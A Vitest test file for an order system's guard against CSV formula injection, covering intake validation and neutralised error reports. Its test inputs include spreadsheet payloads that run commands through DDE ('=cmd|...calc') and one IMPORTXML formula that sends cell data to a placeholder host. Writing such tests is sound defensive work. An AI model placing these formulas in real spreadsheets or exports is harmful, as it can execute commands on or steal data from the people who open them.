/**
 * Security review (issue 16 §4): CSV formula injection. A value starting with `=`, `+`, `-`, `@`,
 * a tab or a CR is run as a formula by a spreadsheet that opens the CSV. The OMS refuses such
 * values at intake where the field allows (customer names, e-mails, phones, addresses, the order
 * name, sales channel, line SKUs and shipping methods, payment methods and references of orders
 * from the HTTP API and storefront files; a phone may start with `+` followed by digits), and
 * neutralises every cell of the error reports (`error/*.errors.csv`, opened by people) with a
 * leading `'`. Outbound NetSuite feeds are not altered (`-3` is a legitimate quantity there).
 */
import { memoryErrorStore } from '../support/memory-error-store.ts';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  formatValidationError,
  validateOrder,
  type OrderInput,
} from '../../shared/domain/orders/order.ts';
import { ErrorReport, neutraliseFormula, writeErrorFile } from '../../shared/feeds/error-report.ts';

const address = { name: 'Ada', address1: '1 St', city: 'London', country: 'GB', zip: 'N1' };
const valid = (): OrderInput =>
  ({
    externalId: 'shop-1001',
    name: '#1001',
    date: '2025-07-02T10:15:00+02:00',
    salesChannel: 'web',
    customer: {
      shopCustomerId: 'c-1',
      email: 'ada@example.com',
      firstName: 'Ada',
      lastName: 'Lovelace',
      phone: '+44 20 7946 0000',
      shippingAddress: { ...address, phone: '+1 (555) 010-0000' },
      billingAddress: { ...address, address2: '' },
    },
    payments: [{ method: 'card', amount: 25, reference: 'pay-1' }],
    lines: [{ sku: 'A', quantity: 2, price: 10, shippingMethod: 'STANDARD' }],
  }) as OrderInput;

describe('intake refuses formula-like customer and order values, naming the field', () => {
  it('accepts ordinary values, international phones included', () => {
    expect(validateOrder(valid()).ok).toBe(true);
  });

  it('accepts SKUs, names and references with = + - @ inside, not at the start', () => {
    const order = valid() as unknown as {
      name: string;
      lines: Array<{ sku: string }>;
      payments: Array<{ reference: string }>;
    };
    order.name = '#1001 - gift (+ card)';
    order.lines[0]!.sku = 'TEE-M=BLUE@2025';
    order.payments[0]!.reference = 'pay+1-2';
    expect(validateOrder(order).ok).toBe(true);
  });

  it('names the line or payment at fault, and every field at fault', () => {
    const order = valid() as unknown as {
      name: string;
      lines: Array<Record<string, unknown>>;
    };
    order.lines.push({ sku: '=2+2', quantity: 1, price: 1, shippingMethod: 'STANDARD' });
    order.name = '-1001';
    const out = validateOrder(order);
    expect(out.ok).toBe(false);
    if (out.ok) return;
    expect(out.errors.map(formatValidationError)).toEqual([
      'order shop-1001: name "-1001" must not start with =, +, -, @, a tab or a line break (a spreadsheet would run it as a formula)',
      'order shop-1001: lines[1].sku "=2+2" must not start with =, +, -, @, a tab or a line break (a spreadsheet would run it as a formula)',
    ]);
  });

  it.each([
    ['customer.firstName', '=HYPERLINK("http://x","y")'],
    ['customer.lastName', '@SUM(1+1)'],
    ['customer.email', '-2+3@example.com'],
    ['customer.phone', '+cmd|calc'],
    ['customer.shippingAddress.name', '\tTab'],
    ['customer.shippingAddress.address1', '+1 Main St'],
    ['customer.billingAddress.city', '\rLondon'],
    ['customer.billingAddress.zip', '-N1'],
    ['customer.shippingAddress.phone', '=1+1'],
    ['customer.shopCustomerId', '=cmd|"/C calc"!A0'],
    ['name', '=HYPERLINK("http://x","#1001")'],
    ['name', '+1001'],
    ['salesChannel', '@web'],
    ['lines[0].sku', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'],
    ['lines[0].sku', '-SKU-1'],
    ['lines[0].sku', '\tSKU-1'],
    ['lines[0].shippingMethod', '+STANDARD'],
    ['payments[0].method', '\rcard'],
    ['payments[0].reference', '@pay-1'],
  ] as const)('refuses %s %j', (field, value) => {
    const order = valid();
    // Sets the value at the field's path (customer.x, customer.address.x, lines[0].sku, …).
    const path = field.replace(/\[(\d+)\]/g, '.$1').split('.');
    let at = order as unknown as Record<string, unknown>;
    for (const p of path.slice(0, -1)) at = at[p] as Record<string, unknown>;
    at[path[path.length - 1]!] = value;
    const out = validateOrder(order);
    expect(out.ok).toBe(false);
    if (out.ok) return;
    expect(out.errors).toHaveLength(1);
    expect(out.errors[0]!.field).toBe(field);
    expect(formatValidationError(out.errors[0]!)).toMatch(
      /must not start with =, \+, -, @, a tab or a line break \(a spreadsheet would run it as a formula\)/,
    );
  });
});

describe('error reports neutralise formula-like cells', () => {
  it('prefixes = + - @ tab CR with a single quote, leaves other cells alone', () => {
    for (const v of ['=1+1', '+1', '-3', '@A1', '\tx', '\rx'])
      expect(neutraliseFormula(v)).toBe(`'${v}`);
    for (const v of ['SKU-1', '12', 'a=b', '', "'quoted"]) expect(neutraliseFormula(v)).toBe(v);
  });

  it('in a streamed report and in a short error file', async () => {
    const { objects, store } = memoryErrorStore();
    const report = new ErrorReport(store, '=evil.csv', 'error/r.csv', 'parts/');
    report.add({ line: 2, field: '@field', reason: '-reason', raw: '=HYPERLINK("http://x")' });
    await report.close();
    await writeErrorFile(store, 'error/s.csv', '+file.csv', [
      { line: 0, field: 'file', reason: '=cmd', raw: '\t-3,101' },
    ]);
    const rows = (key: string) =>
      parse(objects.get(key)!, { columns: true }) as Array<Record<string, string>>;
    expect(rows('error/r.csv')).toEqual([
      {
        file: "'=evil.csv",
        line: '2',
        field: "'@field",
        reason: "'-reason",
        raw: `'=HYPERLINK("http://x")`,
      },
    ]);
    expect(rows('error/s.csv')).toEqual([
      { file: "'+file.csv", line: '0', field: 'file', reason: "'=cmd", raw: "'\t-3,101" },
    ]);
  });
});
